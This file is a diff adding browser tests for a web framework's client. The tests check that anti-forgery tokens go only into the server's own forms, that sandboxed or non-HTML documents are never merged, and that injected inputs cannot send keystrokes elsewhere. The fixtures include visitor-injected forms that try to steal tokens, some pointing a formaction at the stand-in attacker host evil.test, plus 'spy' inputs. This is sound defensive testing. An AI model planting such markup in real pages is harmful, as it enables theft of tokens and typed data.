@@ -1,0 +1,245 @@
+/** The client does for the server's markup what it does not do for visitors', and merges only documents that act for this site. */
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
+import { createLoom, type Exchange, type Loom, trustedHTML } from 'zip-loom';
+import { describeIn } from '../support/engines/describe-in.ts';
+import { engines, isSameWindow, openWithClient, type Tab, until, untilText } from '../support/engines/index.ts';
+import { openPagesServer, type PagesServer } from '../support/pages-server.ts';
+import { quietLogger, secret } from '../support/settings.ts';
+
+const sources = {
+  'layouts/site-layout.html':
+    '<!doctype html>\n<html lang="en"><head><title>${context.url?.pathname}</title><script type="module" async src="/client.js"></script></head><body><main><slot></slot></main></body></html>',
+  'pages/board.html': `<meta (takes comments, count, draft = false)>
+<section (region box)><b id="count">\${count}</b> <a id="next" href="/?count=\${count + 1}">next</a> <a id="away" href="/away">away</a></section>
+<form id="own" method="post"><input name="text" id="text"><button id="send">Send</button></form>
+<div id="comments">\${comments}</div>
+<div (region aside from="/aside" when="near")>Loading…</div>`,
+  'pages/away.html': '<h1>Away</h1><section (region other)><a id="home" href="/?count=5">home</a></section>',
+  'pages/aside.html':
+    '<div (region aside)><form id="inner" method="post" action="/aside"><button id="inner-send">Send</button></form></div>',
+  'pages/links.html': `<meta (takes kind)>
+<section (region box)><p id="shown">as it was</p><a id="link" href="/document?kind=\${kind}">document</a>
+<a id="dialog" href="/document?kind=\${kind}" data-loom-open="dialog">in a dialog</a></section>`,
+  'pages/search.html': `<meta (takes comments, from)>
+<section (region box)><input id="ours" list="owners" data-loom-search=\${from}><datalist id="owners" (region owners)></datalist>
+<form id="live" method="get" action="/live" data-loom-submit-on="input" data-loom-debounce="10"><input id="typed" name="typed"></form>
+<form id="server" method="post"><input name="a"></form></section><div id="comments">\${comments}</div>`,
+};
+
+let server: PagesServer;
+let loom: Loom;
+let requests: string[];
+let answer: (exchange: Exchange, url: URL) => Promise<Response>;
+
+beforeAll(async () => {
+  loom = await createLoom({ sources, layouts: { '**': 'site-layout' }, secret, logger: quietLogger });
+  server = await openPagesServer(
+    async (request) => {
+      const url = new URL(request.url);
+      requests.push(`${request.method} ${url.pathname}${url.search}`);
+      const exchange = await loom.exchange(request);
+      return answer(exchange, url);
+    },
+    { policy: false },
+  );
+});
+afterAll(() => server?.close());
+
+describeIn(engines, (visitor) => {
+  let tab: Tab;
+  const open = (path = '/') => openWithClient(tab, server.address + path);
+  const tokens = () =>
+    tab.run(() =>
+      [...document.querySelectorAll('[name=loom-token]')].map((one) => [one.id, (one as HTMLInputElement).value]),
+    );
+  const ownToken = () => tab.run(() => document.querySelector<HTMLInputElement>('#own [name=loom-token]')!.value);
+  beforeEach(() => {
+    tab = visitor();
+    requests = [];
+  });
+
+  describe('tokens', () => {
+    const stolen = [
+      '<form method="post" action="/transfer"><input type="hidden" name="loom-token" id="empty"><button>x</button></form>',
+      '<form method="post" action="/transfer"><input type="hidden" name="loom-token" value="a.b" id="filled"></form>',
+      '<form method="get" action="/transfer"><input type="hidden" name="loom-token" id="query"></form>',
+      '<form method="post"><input type="hidden" name="loom-token" id="aside"><button formaction="https://evil.test/">x</button></form>',
+      '<input type="hidden" name="loom-token" form="own" id="beside">',
+      '<template data-loom-token="x.y"></template><template data-loom-page="board" data-loom-token="" data-loom-mark=""></template>',
+    ].join('');
+    beforeEach(() => {
+      answer = async (exchange, { pathname, searchParams }) => {
+        const count = Number(searchParams.get('count') ?? 1);
+        if (pathname === '/away') return exchange.respond('away');
+        if (pathname === '/aside' && exchange.request.method === 'GET') return exchange.respond('aside');
+        if (exchange.request.method === 'POST' && !(await exchange.verify()).ok)
+          return new Response('refused', { status: 403 });
+        if (pathname === '/aside') return exchange.redirect('/?count=8');
+        if (exchange.request.method === 'POST') return exchange.redirect('/?count=9');
+        return exchange.respond('board', { comments: trustedHTML(stolen), count });
+      };
+    });
+
+    test('are renewed in the server’s forms, and written into no field of a visitor', async () => {
+      await open();
+      const before = await ownToken();
+      await tab.click('#next');
+      await untilText(tab, '#count', '2');
+      const after = await ownToken();
+      expect([before.length > 40, after.length > 40, before === after, await isSameWindow(tab)]).toEqual([
+        true,
+        true,
+        false,
+        true,
+      ]);
+      const visitors = (await tokens()).filter(([id]) => id !== '');
+      expect(visitors).toEqual([
+        ['empty', ''],
+        ['filled', 'a.b'],
+        ['query', ''],
+        ['aside', ''],
+        ['beside', ''],
+      ]);
+      await tab.click('#send');
+      await untilText(tab, '#count', '9');
+    });
+
+    test('are not renewed in a form that a visitor’s button could send elsewhere', async () => {
+      await open();
+      // From the second page on the server knows what the browser has, and sends the form no more.
+      await open();
+      await tab.run(() => {
+        const button = document.createElement('button');
+        button.setAttribute('form', 'own');
+        button.setAttribute('formaction', 'https://evil.test/');
+        document.querySelector('#comments')!.append(button);
+      });
+      const before = await ownToken();
+      await tab.click('#next');
+      await untilText(tab, '#count', '2');
+      expect(await ownToken()).toBe(before);
+    });
+
+    test('belong to the page that made them: in a region from another page, and after going back', async () => {
+      await open();
+      await until(tab, () => document.querySelector('#inner [name=loom-token]') !== null);
+      await tab.click('#next');
+      await untilText(tab, '#count', '2');
+      await tab.click('#inner-send');
+      await until(tab, () => document.querySelector('#inner') !== null && location.pathname !== '/nowhere');
+      expect(requests.filter((one) => one === 'POST /aside')).toHaveLength(1);
+      await open();
+      await tab.click('#away');
+      await until(tab, () => document.querySelector('#home') !== null);
+      await tab.back();
+      await until(tab, () => document.querySelector('#own [name=loom-token]') !== null);
+      await tab.click('#send');
+      await untilText(tab, '#count', '9');
+    });
+  });
+
+  describe('documents that do not act for this site', () => {
+    const page =
+      '<!doctype html><html><head><title>x</title></head><body><main><section data-loom-region="box"><p id="shown">taken over</p></section></main></body></html>';
+    const kinds: Readonly<Record<string, Record<string, string>>> = {
+      sandboxed: { 'content-type': 'text/html', 'content-security-policy': 'sandbox' },
+      'sandboxed with scripts': {
+        'content-type': 'text/html; charset=utf-8',
+        'content-security-policy': "default-src 'none'; SANDBOX allow-scripts",
+      },
+      attached: { 'content-type': 'text/html', 'content-disposition': 'attachment; filename="a.html"' },
+      'another type': { 'content-type': 'text/html-like' },
+      XML: { 'content-type': 'application/xhtml+xml' },
+      'plain text': { 'content-type': 'text/plain' },
+    };
+    beforeEach(() => {
+      answer = async (exchange, { pathname, searchParams }) => {
+        if (pathname === '/') return exchange.respond('links', { kind: searchParams.get('kind') });
+        return new Response(page, { headers: kinds[searchParams.get('kind')!]! });
+      };
+    });
+
+    test.each(Object.keys(kinds))('%s: neither into the page nor into a dialog', async (kind) => {
+      for (const link of ['#link', '#dialog']) {
+        await open(`/?kind=${encodeURIComponent(kind)}`);
+        // Whatever is merged is seen, also if the browser goes away after it.
+        await tab.run(() => {
+          const note = () => {
+            if (document.body.textContent?.includes('taken over') || document.querySelector('dialog[open]'))
+              sessionStorage.setItem('merged', 'yes');
+          };
+          new MutationObserver(note).observe(document.documentElement, {
+            subtree: true,
+            childList: true,
+            attributes: true,
+          });
+        });
+        await tab.click(link);
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        const isHere = (await tab.url().catch(() => '')).startsWith(`${server.address}/?kind=`);
+        if (isHere) {
+          expect([
+            kind,
+            await tab.run(() => [document.querySelector('#shown')?.textContent, sessionStorage.getItem('merged')]),
+          ]).toEqual([kind, ['as it was', null]]);
+        } else {
+          await open(`/?kind=${encodeURIComponent(kind)}`);
+          expect([kind, await tab.run(() => sessionStorage.getItem('merged'))]).toEqual([kind, null]);
+        }
+        expect(requests.some((one) => one.startsWith('GET /document'))).toBe(true);
+      }
+    });
+  });
+
+  describe('what sends something while one types', () => {
+    const comments = trustedHTML(
+      [
+        '<input id="spy" list="owners" data-loom-search="/spy" data-loom-mark="x">',
+        '<form id="form-spy" action="/spy" data-loom-submit-on="input" data-loom-debounce="1"><input id="spy-text" name="a"></form>',
+        '<form id="post-spy" action="/spy" method="post" data-loom-submit-on="change"><input id="post-text" name="a"></form>',
+        '<input form="server" name="a" id="control-spy" data-loom-submit-on="change">',
+      ].join(''),
+    );
+    let from = '/owners';
+    beforeEach(() => {
+      answer = async (exchange) => exchange.respond('search', { comments, from });
+    });
+
+    test('is the server’s alone', async () => {
+      from = '/owners';
+      await open();
+      for (const id of ['spy', 'spy-text', 'post-text', 'control-spy']) {
+        await tab.click(`#${id}`);
+        await tab.type('ab');
+        await tab.press('Tab');
+      }
+      await tab.click('#typed');
+      await tab.type('x');
+      await until(tab, () => location.search === '?typed=x' || location.pathname === '/live');
+      await tab.click('#ours');
+      await tab.type('y');
+      await until(tab, () => true);
+      await new Promise((resolve) => setTimeout(resolve, 200));
+      expect(requests.filter((one) => one.includes('spy') || one.startsWith('POST'))).toEqual([]);
+      expect(requests.some((one) => one.startsWith('GET /live'))).toBe(true);
+      expect(requests.some((one) => one.startsWith('GET /owners'))).toBe(true);
+    });
+
+    test('never asks another site', async () => {
+      const other = await openPagesServer(async (request) => {
+        requests.push(`elsewhere ${request.url}`);
+        return new Response('');
+      });
+      from = `${other.address}/owners`;
+      try {
+        await open();
+        await tab.click('#ours');
+        await tab.type('secret');
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        expect(requests.filter((one) => one.startsWith('elsewhere'))).toEqual([]);
+      } finally {
+        await other.close();
+      }
+    });
+  });
+});
